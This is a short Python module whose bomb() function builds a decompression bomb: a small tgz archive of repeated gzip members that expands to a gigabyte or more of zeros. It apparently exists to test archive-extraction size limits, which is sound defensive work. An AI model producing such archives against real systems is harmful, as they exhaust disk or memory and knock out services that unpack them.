"""Archives that are small and hold very much."""

from __future__ import annotations

import tarfile
import zlib

_ZEROS = 16 << 20
_BLOCK = 512


def _gzip(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    return compressor.compress(data) + compressor.flush()


def bomb(size: int = 1 << 30, name: str = "zeros") -> bytes:
    """A tgz with one member of zeros; made of gzip members, of which one is compressed."""
    info = tarfile.TarInfo(name)
    info.size = size // _ZEROS * _ZEROS
    head = info.tobuf(tarfile.PAX_FORMAT)
    return _gzip(head) + _gzip(bytes(_ZEROS)) * (size // _ZEROS) + _gzip(bytes(2 * _BLOCK))
